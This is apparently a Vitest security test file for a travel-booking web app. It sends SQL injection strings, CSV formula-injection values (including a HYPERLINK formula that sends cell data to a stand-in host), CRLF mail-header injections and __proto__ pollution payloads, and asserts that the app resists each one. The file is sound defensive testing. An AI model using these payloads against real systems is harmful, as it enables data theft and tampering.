import { afterEach, beforeAll, expect, test, vi } from 'vitest';
import {
  bookings,
  contactMessages,
  outbox,
  settings,
  subscribers,
  transferRequests,
} from '#core/db/schema.ts';
import { deliverDue } from '#core/mail/delivery.ts';
import { anAdmin } from '../../test/admin.ts';
import { aTrip, aTripType, db } from '../../test/builders.ts';
import { bindings, ORIGIN, postJson, send } from '../../test/client.ts';
import { aTransferRequest, aTransferTable, SUMMER_DAY } from '../../test/orders/transfer-table.ts';
import { aTripRequest } from '../../test/orders/trip-requests.ts';
import { signIn } from '../../test/sign-in.ts';

const admin = await anAdmin();

beforeAll(async () => {
  await aTransferTable();
  await aTripType({ id: 1 });
  await aTrip({ id: 1 });
});
afterEach(() => void vi.restoreAllMocks());

const SQL = [
  "' OR '1'='1",
  '" OR 1=1 --',
  "'; DROP TABLE trips; --",
  "') UNION SELECT password_hash FROM users --",
  'NEAR("a" "b")',
  'a* OR b*',
  '%',
  '_%_',
  '\\',
  '"',
];
const LISTS = [
  '/api/search',
  '/api/trips',
  '/api/destinations',
  '/api/blog/posts',
  '/api/transfers/places',
];
const ADMIN_LISTS = [
  '/trips',
  '/destinations',
  '/blog/posts',
  '/users',
  '/transfers',
  '/trip-requests',
  '/messages',
  '/subscribers',
  '/outbox',
  '/audit',
  '/redirects',
  '/images',
];

test('a search for pieces of SQL finds the words, or nothing', async () => {
  const before = await db.select().from(bookings);
  for (const [n, text] of SQL.entries()) {
    for (const path of LISTS) {
      const address = { 'CF-Connecting-IP': `203.0.113.${n}` };
      const response = await send(
        `${path}?q=${encodeURIComponent(text)}&lang=en&sort=${encodeURIComponent(text)}&type=${encodeURIComponent(text)}`,
        { headers: address },
      );
      expect(response.status, `${path} ${text}`).toBe(200);
      expect(await response.text(), `${path} ${text}`).not.toMatch(/scrypt|SQLITE|syntax error/i);
    }
    for (const path of ADMIN_LISTS) {
      const response = await admin(
        `${path}?q=${encodeURIComponent(text)}&sort=${encodeURIComponent(text)}&status=${encodeURIComponent(text)}&page=${encodeURIComponent(text)}`,
      );
      expect(response.status, `${path} ${text}`).toBe(200);
      expect(await response.text(), `${path} ${text}`).not.toMatch(/scrypt|SQLITE|syntax error/i);
    }
  }
  expect((await send('/api/trips/1')).status).toBe(200);
  expect(await db.select().from(bookings)).toEqual(before);
});

const FORMULA = '=HYPERLINK("https://other.example?"&A1,"x")';
test('no export contains a formula from user input', async () => {
  await db.insert(contactMessages).values({
    name: FORMULA,
    email: '+cmd@example.com',
    message: `-2+3${FORMULA}`,
    language: 'en',
    source: '@SUM(1)',
    digest: 'd',
  });
  await db.insert(subscribers).values({
    email: '=cmd|x@example.com',
    language: 'en',
    consentSource: '\t=1+1',
    requestedAt: '2026-01-01T00:00:00.000Z',
  });
  await aTripRequest(1, { contactName: FORMULA, notes: ' =1+1' });
  await aTransferRequest({
    contact: { name: '=SUM(1+1)', email: 'ada@example.com' },
    signName: '+1',
    note: FORMULA,
  });
  for (const path of ['/messages/export.csv', '/subscribers/export.csv', '/orders/export.csv']) {
    const response = await admin(path);
    expect(
      [response.status, response.headers.get('Content-Disposition')?.split(';')[0]],
      path,
    ).toEqual([200, 'attachment']);
    const text = await response.text();
    expect(text.split('\r\n').length, path).toBeGreaterThan(2);
    // A cell begins at a quote after a comma or at the beginning of a line.
    expect(text.match(/(?:^|,|\n)"\s*[=+\-@]/g) ?? [], path).toEqual([]);
    expect(text, path).toContain(`"'`);
  }
});

test('what a guest types adds no line to a mail’s head, on its way to the provider', async () => {
  const name = 'Eve\r\nBcc: all@other.example\r\n\r\nBody';
  await aTransferRequest({ contact: { name: 'Eve', email: 'eve@example.com' }, note: name });
  const request = (contact: object) =>
    postJson('/api/trips/1/requests', {
      date: SUMMER_DAY,
      adults: 2,
      childAges: [],
      contact: { email: 'eve@example.com', ...contact },
      message: name,
      language: 'en',
      privacyAccepted: true,
      termsAccepted: true,
    });
  expect([(await request({ name })).status, (await request({ name: 'Eve' })).status]).toEqual([
    422, 201,
  ]);
  const heads: Record<string, unknown>[] = [];
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (_url, init) => {
    const {
      from,
      to,
      reply_to: replyTo,
      subject,
    } = JSON.parse(String(init?.body)) as Record<string, unknown>;
    // Redirects are not followed.
    expect(init?.redirect).toBe('manual');
    heads.push({ from, to, replyTo, subject });
    return Response.json({});
  });
  await db
    .insert(settings)
    .values({ key: 'mail', value: { driver: 'http', senderAddress: 'firm@example.com' } })
    .onConflictDoNothing();
  // The local default keeps mails; here they are sent.
  await db
    .update(outbox)
    .set({ status: 'pending', attempts: 0, nextAttemptAt: '2026-01-01T00:00:00.000Z' });
  await deliverDue({ ...bindings, MAIL_ENDPOINT: 'https://provider.example/emails' }, db);
  expect(heads.length).toBeGreaterThan(2);
  for (const head of heads) expect(JSON.stringify(head)).not.toMatch(/\\r|\\n|\\u2028/);
  for (const email of [
    'eve@example.com\r\nBcc: x@other.example',
    'a@b.example,c@d.example',
    '"a b"@example.com',
  ]) {
    const response = await postJson('/api/subscribe', { email });
    expect(
      [
        response.status,
        (await db.select().from(subscribers)).some((one) => /other\.example|,/.test(one.email)),
      ],
      email,
    ).toEqual([422, false]);
  }
  expect(await db.select().from(transferRequests)).not.toEqual([]);
});

test('names that reach for prototypes change nothing and break nothing', async () => {
  const body =
    '{"name":"Ada","slug":"proto","__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},"translations":{"__proto__":{"es":"x"},"name":{"__proto__":"x","es":"y"}}}';
  const { headers } = await signIn('ada@example.com', 'admin');
  const created = await send('/api/admin/trip-types', {
    method: 'POST',
    body,
    headers: { ...headers, 'Content-Type': 'application/json', Origin: ORIGIN },
  });
  expect(created.status).toBe(201);
  const row = (await created.json()) as { id: number; translations: object };
  expect(Object.keys(row.translations)).toEqual(['name']);
  expect(row.translations).toEqual({ name: { es: 'y' } });
  expect(({} as { isAdmin?: unknown }).isAdmin).toBeUndefined();
  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
    expect((await send(`/locales/${name}/common.json`)).status, name).toBe(404);
    expect((await send(`/locales/en/${name}.json`)).status, name).toBe(404);
    expect((await send(`/api/seo/${name}`)).status, name).toBe(404);
    expect((await send(`/api/legal/${name}`)).status, name).toBe(404);
    expect((await admin(`/settings/${name}`)).status, name).toBe(404);
    expect((await admin(`/trips?sort=${name}&status=${name}&type=${name}`)).status, name).toBe(200);
  }
});
